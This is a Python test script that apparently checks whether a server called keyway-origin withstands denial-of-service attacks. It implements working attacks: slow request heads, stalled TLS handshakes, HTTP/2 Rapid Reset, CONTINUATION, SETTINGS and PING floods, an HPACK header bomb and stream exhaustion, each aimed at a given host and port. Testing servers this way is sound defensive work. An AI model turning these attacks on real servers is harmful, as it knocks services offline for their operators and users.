#!/usr/bin/env python3
"""One attack on keyway-origin in a process of its own: origin_attacks.py NAME HOST PORT PATH. Prints what happened; exits with 1 if the
origin did not defend itself."""

import socket
import ssl
import struct
import sys
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, Connection, block, frame, integer, literal)

# How long the origin may take to close a connection: its deadlines are 10 and 20 seconds, and the machine may be busy.
LONGEST = 60


def plain(host, port):
    return socket.create_connection((host, port), timeout=LONGEST)


def client_context():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def seconds_until_closed(client, begin):
    """Reads until the server closes the connection, and returns the seconds since the beginning."""
    try:
        while client.recv(65_536):
            pass
    except (ConnectionResetError, ssl.SSLError):
        pass
    except TimeoutError:
        return None
    return time.monotonic() - begin


def closed_after(clients, begin, earliest):
    """Requires that all connections are closed, and none before a time."""
    times = [seconds_until_closed(each, begin) for each in clients]
    if None in times:
        raise SystemExit(f"{times.count(None)} of {len(times)} connections stay open")
    if min(times) < earliest:
        raise SystemExit(f"a connection was closed after {min(times):.1f} s")
    return f"{len(times)} connections closed after {min(times):.1f} to {max(times):.1f} s"


def handshake(host, port, path):
    """TLS handshakes that never end: nothing, and the beginning of a ClientHello."""
    begin = time.monotonic()
    clients = [plain(host, port) for _ in range(200)]
    for each in clients[:100]:
        each.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    return closed_after(clients, begin, 8)


def slow_head(host, port, path):
    """A request head of one byte per second."""
    begin = time.monotonic()
    clients = [client_context().wrap_socket(plain(host, port)) for _ in range(20)]
    text = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nX: ".encode() + b"a" * 1000
    for position in range(LONGEST):
        try:
            for each in clients:
                each.sendall(text[position:position + 1])
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            break
        time.sleep(1)
    return closed_after(clients, begin, 8)


def unread(host, port, path):
    """Streams of a large file over HTTP/2, with the largest windows, of which nothing is read."""
    client = Connection(host, port, window=(1 << 31) - 1, timeout=LONGEST)
    client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535)))
    for number in range(100):
        client.request(2 * number + 1, "GET", "/channel/video/large.mp4")
    # More than the time without progress; reading then shows how much had been sent.
    time.sleep(30)
    size = sum(len(each[3]) for each in client.read_to_end())
    if size > 64 << 20:
        raise SystemExit(f"{size} bytes were sent")
    return f"closed, {size >> 10} KiB had been sent"


def pipelining(host, port, path):
    """Requests of HTTP/1.1 without end on one connection, of whose responses nothing is read."""
    begin = time.monotonic()
    client = client_context().wrap_socket(plain(host, port))
    text, sent = b"GET /channel/main.m3u8 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 1000, 0
    try:
        while sent < 1 << 28:
            sent += client.send(text)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
        pass
    except TimeoutError:
        raise SystemExit(f"the connection stays open after {sent >> 10} KiB of requests") from None
    return f"closed after {time.monotonic() - begin:.1f} s and {sent >> 10} KiB of requests"


def no_window(host, port, path):
    """Streams of a large file over HTTP/2, for which the client permits no byte."""
    begin = time.monotonic()
    client = Connection(host, port, window=0, timeout=LONGEST)
    for number in range(100):
        client.request(2 * number + 1, "GET", "/channel/video/large.mp4")
    resets = 0
    while resets < 100:
        each = client.read() or sys.exit(f"the connection was closed after {resets} resets")
        resets += each[0] == RST_STREAM
    return f"100 streams reset after {time.monotonic() - begin:.1f} s"


def flood(host, port, first, each, count, what):
    """Sends frames until the server closes the connection."""
    client = Connection(host, port, timeout=LONGEST)
    client.send(first)
    sent = 0
    while sent < count and client.send(b"".join(each(sent + number) for number in range(100))):
        sent += 100
    goaway = [frames for frames in client.read_to_end() if frames[0] == GOAWAY]
    code = int.from_bytes(goaway[-1][3][4:8], "big") if goaway else None
    return f"{what}: closed with code {code} after at most {sent} frames"


def rapid_reset(host, port, path):
    """HTTP/2 Rapid Reset (CVE-2023-44487)."""
    def pair(number):
        stream = 2 * number + 1
        return (frame(HEADERS, END_HEADERS | END_STREAM, stream, block("GET", path))
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return flood(host, port, b"", pair, 100_000, "resets")


def continuation(host, port, path):
    """CONTINUATION frames without an end (CVE-2024-27316 and others)."""
    first = frame(HEADERS, END_STREAM, 1, block("GET", path))
    return flood(host, port, first, lambda number: frame(CONTINUATION, 0, 1, literal("x", "y" * 100)), 100_000, "continuations")


def empty_continuation(host, port, path):
    first = frame(HEADERS, END_STREAM, 1, block("GET", path))
    return flood(host, port, first, lambda number: frame(CONTINUATION, 0, 1), 100_000, "empty continuations")


def settings(host, port, path):
    return flood(host, port, b"", lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2)), 100_000, "settings")


def ping(host, port, path):
    return flood(host, port, b"", lambda number: frame(PING, 0, 0, bytes(8)), 100_000, "pings")


def priority(host, port, path):
    return flood(host, port, b"", lambda number: frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 1)), 100_000, "priorities")


def empty_data(host, port, path):
    first = frame(HEADERS, END_HEADERS, 1, block("PUT", "/channel/a.m4s"))
    return flood(host, port, first, lambda number: frame(DATA, 0, 1), 100_000, "empty data")


def header_bomb(host, port, path):
    """A large field of the dynamic table, to which each byte of the block refers."""
    bomb = block("GET", path) + literal("x", "y" * 3900, first=0x40) + bytes([0x80 | 62]) * 10_000
    return flood(host, port, b"", lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, bomb), 1_000, "header bombs")


def streams(host, port, path):
    """A thousand blocking reloads at once on each of ten connections: the server permits 100."""
    clients = [Connection(host, port, timeout=LONGEST) for _ in range(10)]
    for client in clients:
        client.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block("GET", path)) for number in range(1000)))
    refused = 0
    for client in clients:
        answered, resets = set(), set()
        while (each := client.read()) is not None and len(answered) + len(resets) < 1000:
            if each[0] == HEADERS:
                answered.add(each[2])
            elif each[0] == RST_STREAM:
                resets.add(each[2])
        if len(answered) > 200:
            raise SystemExit(f"{len(answered)} of 1,000 streams at once were answered on one connection")
        refused += 1000 - len(answered)
    return f"{refused} of 10,000 streams refused"


def windows(host, port, path):
    """WINDOW_UPDATE frames, which have no limit: a million of them must only not delay others."""
    client = Connection(host, port, timeout=LONGEST)
    client.request(1, "GET", path)
    sent = 0
    while sent < 1_000_000 and client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000):
        sent += 1000
    client.close()
    return f"{sent} window updates"


def idle(host, port, path):
    """Connections of HTTP/2 that open no stream and answer no PING."""
    begin = time.monotonic()
    clients = [Connection(host, port, timeout=150).socket for _ in range(200)]
    return closed_after(clients, begin, 60)


if __name__ == "__main__":
    print(globals()[sys.argv[1]](sys.argv[2], int(sys.argv[3]), sys.argv[4]))
